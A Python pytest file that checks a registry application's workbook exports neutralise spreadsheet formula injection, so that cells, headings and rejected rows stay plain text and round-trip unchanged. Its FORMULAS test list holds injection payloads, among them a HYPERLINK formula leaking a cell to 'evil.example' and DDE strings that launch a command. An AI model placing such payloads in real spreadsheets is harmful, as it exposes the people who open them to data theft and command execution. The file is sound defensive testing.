"""Whatever people typed, a workbook of ours holds text: no cell, heading or sheet becomes a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from baibu.registry import actions
from baibu.registry.forms.reading import read_workbook
from baibu.registry.forms.workbooks import text_of
from baibu.registry.models import Person
from baibu.registry.queries.exports import DANGEROUS, Book, harmless, plain, rejected_workbook
from tests.registry.offices import TODAY, workbook

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", " =1", "'=1",
    "''=1", '=HYPERLINK("https://evil.example/?"&A1,"x")', "=cmd|'/c calc'!A0", "-2+3+cmd|' /c calc'!A0",
    "@WEBSERVICE(1)", '+"x"',
]  # fmt: skip
HARMLESS = ["王小芳", "1-2-501", "'", "'王", "", "5栋", "a=b", "19900000001", "http://example.org"]


def cells_of(content: bytes) -> list[Any]:
    """Every cell of the file, as openpyxl finds it."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.value is not None]


def check(content: bytes) -> None:
    """No cell is a formula or a link, and none becomes one when the file is saved as lines of text."""
    for cell in cells_of(content):
        assert cell.data_type != "f", cell.value
        assert cell.hyperlink is None
        if isinstance(cell.value, str):
            assert not cell.value.lstrip(" ").startswith(DANGEROUS), cell.value
    lines = io.StringIO()
    csv.writer(lines).writerow([cell.value for cell in cells_of(content)])
    lines.seek(0)
    assert not any(field.startswith(DANGEROUS[:8]) for line in csv.reader(lines) for field in line)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text_in_cells_and_headings(text: str) -> None:
    book = Book()
    book.sheet("表", ("姓名", text), [(text, "王小芳"), ("李杰", text)])
    content = book.finished()
    check(content)
    values = [cell.value for cell in cells_of(content)]
    assert values.count(harmless(text)) == 3 or "\r" in text, "a spreadsheet keeps no carriage return"
    assert plain(harmless(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_is_written_as_it_is(text: str) -> None:
    assert harmless(text) == plain(text) == text


@given(st.text())
def test_whatever_is_written_is_read_back(text: str) -> None:
    assert plain(harmless(text)) == text
    assert text_of(harmless(text)) == text_of(text)


@pytest.mark.parametrize("text", FORMULAS)
def test_rejected_rows_go_back_as_text_and_come_in_again_as_they_were(text: str) -> None:
    rows = [("姓名", "出生年月", "住址", "备注" + text), (text, "1956-03", "乱写" + text, text), (1, 2, 3, 4)]
    sheet = read_workbook(workbook({"台账": rows}), "台账.xlsx", today=TODAY).sheets[0]
    assert sheet.rejected
    content = rejected_workbook([sheet])
    check(content)
    again = read_workbook(content, "台账.xlsx", today=TODAY).sheets[0]
    assert [row.cells.get("姓名") for row in again.rejected] == [
        row.cells.get("姓名") for row in sheet.rejected
    ]


def test_the_register_with_formulas_for_notes_and_rooms_goes_out_and_comes_in_unchanged(
    operator: Any, now: Any
) -> None:
    from baibu.registry.queries.teams import compare

    actions.apply_import(
        actor=operator,
        workbook=read_workbook(
            workbook({"台账": [("姓名", "出生年月", "住址"), ("王小芳", "1956-03", "3-2-501")]}),
            "台账.xlsx",
            today=TODAY,
        ),
        now=now,
    )
    Person.objects.update(relation="=1+1")
    saved = io.BytesIO()
    actions.write_export(actor=operator, to=saved, since=TODAY, until=TODAY, now=now)
    content = saved.getvalue()
    check(content)
    assert "'=1+1" in [cell.value for cell in cells_of(content)]
    plan = compare(read_workbook(content, "台账.xlsx", today=TODAY), operator.within, TODAY)
    assert [len(difference.changed) for difference in plan.sheets if difference.sheet.register] == [0]
